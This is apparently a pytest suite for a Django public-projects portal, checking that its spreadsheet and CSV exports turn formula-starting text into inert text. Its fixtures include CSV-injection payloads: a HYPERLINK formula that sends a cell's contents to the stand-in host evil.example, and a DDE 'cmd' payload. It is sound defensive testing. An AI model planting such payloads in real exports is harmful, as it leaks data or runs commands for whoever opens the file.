"""No cell of a spreadsheet or CSV file the portal writes is a formula (minsheng.spreadsheets).

Two sets of the same things are built: ordinary ones, and hostile ones whose every text field
starts with what a spreadsheet runs (= + - @, a tab, a carriage return, a line feed). Every
file the portal writes is then downloaded as a person would (each admin export, in both
formats; the API's open data; the monthly briefing) and read back with openpyxl and the csv
module: a hostile text comes out whole behind one apostrophe, never as a formula cell; an
ordinary text, a number and a date come out as they were.
"""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
import tablib
from django.contrib import admin
from django.contrib.auth import get_user_model
from django.db import models
from django.db.models import Manager
from import_export.admin import ExportMixin
from import_export.formats.base_formats import CSV, XLSX

from departments.models import Area, Department
from feedback.choices import CommentState, SuggestionState
from feedback.models import Comment, Rating, Suggestion
from minsheng.spreadsheets import read_cell, safe_cell
from projects.choices import ProjectStatus
from projects.models import BeneficiaryGroup, Category, Indicator, Milestone, Project
from projects.resources import IndicatorResource, MilestoneResource, ProjectResource
from projects.services import lights_refresh
from tests.factories import (
    AreaFactory,
    BeneficiaryGroupFactory,
    CategoryFactory,
    CommentFactory,
    DepartmentFactory,
    IndicatorFactory,
    MilestoneFactory,
    PlanFactory,
    ProjectFactory,
    RatingFactory,
    ReplyFactory,
    SuggestionFactory,
    UserFactory,
    coordinator,
    leader,
)

User = get_user_model()

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
MARK = "HYPERLINK"


def hostile_text(index: int, tag: str, max_length: int | None) -> str:
    start = FORMULA_STARTS[index % len(FORMULA_STARTS)]
    # No comma or semicolon: a cell of several names is split at them.
    text = f'{start}{MARK}("http://evil.example/?leak={tag}&"&B2)'
    return text[:max_length] if max_length else text


def text_fields(model) -> list[models.Field]:
    """The free-text fields of ``model`` (not choices, not fingerprints, a user's name only)."""
    if model is User:
        return [model._meta.get_field("username")]
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not field.choices
        and not field.name.endswith("_hash")
    ]


def make_hostile(objects) -> None:
    """Every text field of ``objects`` gets a formula, written past validation as data might."""
    index = 0
    for obj in objects:
        values = {}
        for field in text_fields(type(obj)):
            tag = f"{type(obj).__name__}.{field.name}.{obj.pk}"
            values[field.name] = hostile_text(index, tag, field.max_length)
            index += 1
        type(obj).objects.filter(pk=obj.pk).update(**values)


def build(plan, number: int, prefix: str) -> dict:
    """One project with everything hanging off it that a spreadsheet shows."""
    lead = DepartmentFactory(name=f"{prefix}牵头局", short_name=f"{prefix}局")
    helper = DepartmentFactory(name=f"{prefix}配合局", short_name=f"{prefix}配")
    category = CategoryFactory(code=f"c{number}", name=f"{prefix}教育")
    area = AreaFactory(name=f"{prefix}社区")
    group = BeneficiaryGroupFactory(name=f"{prefix}儿童")
    moderator = UserFactory(username=f"moderator{number}")
    project = ProjectFactory(
        plan=plan,
        number=number,
        title=f"{prefix}新建朝阳路小学",
        summary="新建公办小学一所",
        commitment="新增学位 1200 个",
        category=category,
        lead_department=lead,
        planned_start=datetime.date(2024, 1, 1),
        planned_end=datetime.date(2024, 6, 30),  # past its end at 60 %: a red light
        planned_investment=Decimal("1200.50"),
        funds_disbursed=Decimal("300.25"),
        progress_percent=Decimal("60"),
        status=ProjectStatus.IN_PROGRESS,
    )
    project.cooperating_departments.set([helper])
    project.areas.set([area])
    project.beneficiary_groups.set([group])
    milestone = MilestoneFactory(
        project=project, title="主体完工", planned_date=datetime.date(2024, 8, 31), note="按期"
    )
    indicator = IndicatorFactory(
        project=project, name="新增学位", unit="个", target_value=Decimal("1200")
    )
    comment = CommentFactory(
        project=project,
        state=CommentState.PUBLISHED,
        nickname=f"{prefix}居民",
        contact="13905520000",
        body="什么时候开学？",
        reply_due_on=datetime.date(2024, 9, 10),
        moderated_by=moderator,
        moderation_reason="无",
    )
    reply = ReplyFactory(
        comment=comment,
        body="九月开学。",
        created_at=datetime.datetime(2024, 9, 15, 10, tzinfo=datetime.UTC),
    )
    rating = RatingFactory(project=project, remark="很满意")
    suggestion = SuggestionFactory(
        title=f"{prefix}建议增设食堂",
        category=category,
        area=area,
        state=SuggestionState.ADOPTED,
        answer="已采纳",
        answered_by=moderator,
    )
    return {
        "lead": lead,
        "helper": helper,
        "category": category,
        "area": area,
        "group": group,
        "moderator": moderator,
        "project": project,
        "milestone": milestone,
        "indicator": indicator,
        "comment": comment,
        "reply": reply,
        "rating": rating,
        "suggestion": suggestion,
    }


@pytest.fixture
def world(db):
    plan = PlanFactory(year=2024)
    ordinary = build(plan, 1, "普通")
    hostile = build(plan, 2, "恶意")
    lights_refresh()
    make_hostile([plan, *hostile.values()])
    hostile = {name: type(obj).objects.get(pk=obj.pk) for name, obj in hostile.items()}
    ordinary = {name: type(obj).objects.get(pk=obj.pk) for name, obj in ordinary.items()}
    plan.refresh_from_db()
    return {"plan": plan, "ordinary": ordinary, "hostile": hostile}


# --- reading files as a person's spreadsheet would ---------------------------------------


def xlsx_rows(content: bytes, sheet: str | None = None) -> list[list]:
    """The cells' values; a formula cell fails the test, whatever its text."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    rows = []
    for cells in (book[sheet] if sheet else book.active).iter_rows():
        for cell in cells:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
        rows.append([cell.value for cell in cells])
    return rows


def csv_rows(content: bytes) -> list[list]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def as_stored(text: str, kind: str) -> str:
    # An .xlsx file keeps no carriage return: openpyxl writes it as is and XML reads it back
    # as a line feed (the same before and after the formula rule).
    return text.replace("\r", "\n") if kind == "xlsx" else text


def assert_no_live_text(rows: list[list]) -> None:
    """No text cell starts with anything a spreadsheet would run."""
    for row in rows:
        for value in row:
            if isinstance(value, str):
                assert not value.startswith(FORMULA_STARTS), repr(value)


def the_row(rows: list[list], column: int, wanted) -> list:
    found = [row for row in rows if row[column] in (wanted, str(wanted))]
    assert len(found) == 1, (wanted, rows)
    return found[0]


# --- the rule --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil.example/")', '\'=HYPERLINK("http://evil.example/")'),
        ("+1 支持", "'+1 支持"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1,2)", "'@SUM(1,2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("'=1+1", "''=1+1"),
        ("'单引号开头", "''单引号开头"),
        ("新建朝阳路小学", "新建朝阳路小学"),
        ("1+1=2", "1+1=2"),
        ("", ""),
        (None, None),
        (Decimal("-5.50"), Decimal("-5.50")),
        (-3, -3),
        (datetime.date(2024, 6, 30), datetime.date(2024, 6, 30)),
    ],
)
def test_text_that_would_run_gets_an_apostrophe_and_reads_back_as_it_was(value, cell):
    assert safe_cell(value) == cell
    if isinstance(value, str):
        assert read_cell(cell) == value


@pytest.mark.parametrize("typed", ["'普通文本", "'", "'12", "' =1"])
def test_an_apostrophe_the_rule_did_not_put_is_kept_on_import(typed):
    assert read_cell(typed) == typed


# --- every admin export ----------------------------------------------------------------------


def exporting_admins():
    return {
        model: model_admin
        for model, model_admin in admin.site._registry.items()
        if isinstance(model_admin, ExportMixin)
    }


def admin_export(client, model, model_admin, kind: str) -> list[list]:
    resource = model_admin.get_export_resource_classes(None)[0]
    formats = model_admin.get_export_formats()
    fields = {f"{resource.__name__.lower()}_{name}": "on" for name in resource().get_export_order()}
    response = client.post(
        f"/admin/{model._meta.app_label}/{model._meta.model_name}/export/",
        {
            "resource": "0",
            "format": str(formats.index(XLSX if kind == "xlsx" else CSV)),
            **fields,
        },
    )
    assert response.status_code == 200, response.content[:500]
    return xlsx_rows(response.content) if kind == "xlsx" else csv_rows(response.content)


def shown(value) -> str:
    """What a text field looks like in a cell (several related names joined by 、)."""
    if isinstance(value, Manager):
        return "、".join(related.name for related in value.all())
    if isinstance(value, models.Model):
        return value.name
    return value


def text_columns(resource) -> list[tuple[int, object]]:
    """(column index, resource field) of the columns that show a text field of some model."""
    columns = []
    for index, field in enumerate(resource.get_export_fields()):
        if not field.attribute:
            continue
        model = resource._meta.model
        *path, last = field.attribute.split("__")
        for name in path:
            model = model._meta.get_field(name).related_model
        model_field = model._meta.get_field(last)
        if model_field.is_relation:  # shown by the related object's name, if it has one
            model = model_field.related_model
            model_field = next((f for f in text_fields(model) if f.name == "name"), None)
        if model_field in text_fields(model):
            columns.append((index, field))
    return columns


EXPORTED = {
    Project: "project",
    Milestone: "milestone",
    Indicator: "indicator",
    Comment: "comment",
    Rating: "rating",
    Suggestion: "suggestion",
}


def test_every_exporting_admin_is_covered():
    assert set(exporting_admins()) == set(EXPORTED)


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["xlsx", "csv"])
@pytest.mark.parametrize("model", list(EXPORTED), ids=lambda model: model.__name__)
def test_admin_exports_write_every_hostile_text_as_inert_text(client, world, model, kind):
    # given
    model_admin = exporting_admins()[model]
    resource = model_admin.get_export_resource_classes(None)[0]()
    client.force_login(coordinator())

    # when
    rows = admin_export(client, model, model_admin, kind)

    # then
    assert_no_live_text(rows)
    headers, data = rows[0], rows[1:]
    assert len(data) == 2
    hostile = world["hostile"][EXPORTED[model]]
    ordinary = world["ordinary"][EXPORTED[model]]
    hostile_row = next(row for row in data if any(MARK in str(value) for value in row))
    ordinary_row = next(row for row in data if row is not hostile_row)
    columns = text_columns(resource)
    assert columns, headers
    for index, field in columns:
        assert hostile_row[index] == "'" + as_stored(shown(field.get_value(hostile)), kind), (
            headers[index]
        )
        # (an empty text is an empty cell, which openpyxl reads as None)
        assert (ordinary_row[index] or "") == shown(field.get_value(ordinary)), headers[index]
    assert not any(str(value).startswith("'") for value in ordinary_row if value is not None)
    if model is Comment:  # the reply comes from its own table, through a dehydrate_ method
        body = world["hostile"]["reply"].body
        assert hostile_row[headers.index("回复内容")] == "'" + as_stored(body, kind)
        assert hostile_row[headers.index("回复单位")].startswith("'")
        assert ordinary_row[headers.index("回复内容")] == "九月开学。"


@pytest.mark.django_db
def test_admin_export_keeps_numbers_as_numbers(client, world):
    client.force_login(coordinator())

    xlsx = admin_export(client, Project, exporting_admins()[Project], "xlsx")
    text = admin_export(client, Project, exporting_admins()[Project], "csv")

    headers = xlsx[0]
    row = the_row(xlsx, headers.index("序号"), 1)
    assert row[headers.index("计划投资（万元）")] == pytest.approx(1200.5)
    assert row[headers.index("已拨付资金（万元）")] == pytest.approx(300.25)
    assert row[headers.index("计划开工日期")] == datetime.datetime(2024, 1, 1)
    row = the_row(text, text[0].index("序号"), "1")
    assert row[text[0].index("计划投资（万元）")] == "1200.50"
    assert row[text[0].index("计划开工日期")] == "2024-01-01"


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_a_negative_amount_stays_a_number(kind):
    # No model takes one today; should one ever, it is a number, not a formula to neutralise.
    plan = PlanFactory(year=2024)
    indicator = IndicatorFactory.build(
        project=ProjectFactory(plan=plan, number=1), name="减少排放", target_value=Decimal("-5.50")
    )

    resource = IndicatorResource()
    dataset = tablib.Dataset(
        resource.export_resource(indicator, force_native_type=kind == "xlsx"),
        headers=resource.get_export_headers(),
    )
    content = (XLSX() if kind == "xlsx" else CSV()).export_data(dataset)

    if kind == "xlsx":
        rows = xlsx_rows(content)
        assert rows[1][rows[0].index("目标值")] == pytest.approx(-5.5)
    else:
        rows = csv_rows(content.encode())
        assert rows[1][rows[0].index("目标值")] == "-5.50"


# --- importing what was exported -------------------------------------------------------------


def snapshot() -> list:
    return [
        list(Project.objects.order_by("pk").values("title", "summary", "commitment")),
        list(Milestone.objects.order_by("pk").values("title", "note")),
        list(Indicator.objects.order_by("pk").values("name", "unit")),
    ]


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["xlsx", "csv"])
@pytest.mark.parametrize("resource_class", [ProjectResource, MilestoneResource, IndicatorResource])
def test_importing_an_export_of_hostile_text_gives_back_the_same_text(world, kind, resource_class):
    # given: texts that start with a formula, and one that starts with an apostrophe already;
    # without surrounding whitespace, as the admin's and the API's forms store every text (and
    # an import drops it from every cell).
    for model in (Project, Milestone, Indicator, Department, Category, Area, BeneficiaryGroup):
        for obj in model.objects.all():
            values = {field.name: getattr(obj, field.name).strip() for field in text_fields(model)}
            model.objects.filter(pk=obj.pk).update(**values)
    project = world["hostile"]["project"]
    Project.objects.filter(pk=project.pk).update(title="'=已有撇号", summary="@提示", commitment="")
    before = snapshot()
    file_format = XLSX() if kind == "xlsx" else CSV()
    exported = file_format.export_data(resource_class().export(force_native_type=kind == "xlsx"))
    content = exported if kind == "xlsx" else exported.encode("utf-8-sig")
    dataset = (
        XLSX().create_dataset(content)
        if kind == "xlsx"
        else CSV(encoding="utf-8-sig").create_dataset(content.decode("utf-8-sig"))
    )

    # when
    result = resource_class().import_data(dataset)

    # then
    assert not result.has_errors() and not result.has_validation_errors(), [
        row.error_dict for row in result.invalid_rows
    ]
    assert result.totals["new"] == result.totals["update"] == 0
    assert result.totals["skip"] == 2
    assert snapshot() == before


# --- the API's open data ---------------------------------------------------------------------

API_TEXT_COLUMNS = {
    "项目名称": lambda p: p.title,
    "领域": lambda p: p.category.name,
    "牵头单位": lambda p: p.lead_department.name,
    "配合单位": lambda p: shown(p.cooperating_departments),
    "覆盖区域": lambda p: shown(p.areas),
    "受益群体": lambda p: shown(p.beneficiary_groups),
    "灯号说明": lambda p: p.light_reason,
    "项目简介": lambda p: p.summary,
    "建设内容及目标": lambda p: p.commitment,
}


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_api_downloads_write_staff_text_as_inert_text(client, world, kind):
    response = client.get(f"/api/v1/projects/{kind}/")

    assert response.status_code == 200
    rows = xlsx_rows(response.content) if kind == "xlsx" else csv_rows(response.content)
    assert_no_live_text(rows)
    headers = rows[0]
    hostile = the_row(rows, headers.index("序号"), 2)
    ordinary = the_row(rows, headers.index("序号"), 1)
    for column, value_of in API_TEXT_COLUMNS.items():
        expected = as_stored(value_of(world["hostile"]["project"]), kind)
        assert hostile[headers.index(column)] == "'" + expected, column
        assert ordinary[headers.index(column)] == value_of(world["ordinary"]["project"]), column
    money = ordinary[headers.index("计划投资（万元）")]
    assert money == (pytest.approx(1200.5) if kind == "xlsx" else "1200.50")
    assert ordinary[headers.index("状态")] == "推进中"


# --- the monthly briefing --------------------------------------------------------------------


@pytest.mark.django_db
def test_briefing_workbook_writes_staff_and_resident_text_as_inert_text(client, world):
    client.force_login(leader())

    response = client.get("/dashboard/briefing/2024-09/briefing.xlsx")

    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    hostile, ordinary = world["hostile"], world["ordinary"]
    sheets = {name: xlsx_rows(response.content, name) for name in book.sheetnames}
    for rows in sheets.values():
        assert_no_live_text(rows)
    cells = {value for rows in sheets.values() for row in rows for value in row}
    for text in [
        world["plan"].title,
        hostile["lead"].name,
        hostile["project"].title,
        hostile["project"].light_reason,
        hostile["milestone"].title,
        hostile["comment"].body,
    ]:
        assert "'" + as_stored(text, "xlsx") in cells, text
    for text in [
        ordinary["lead"].name,
        ordinary["project"].title,
        ordinary["project"].light_reason,
        "主体完工",
        "什么时候开学？",
    ]:
        assert text in cells, text
    behind = sheets[book.sheetnames[2]]
    row = the_row(behind, 1, ordinary["project"].title)
    assert row[0] == 1 and row[4] == 60
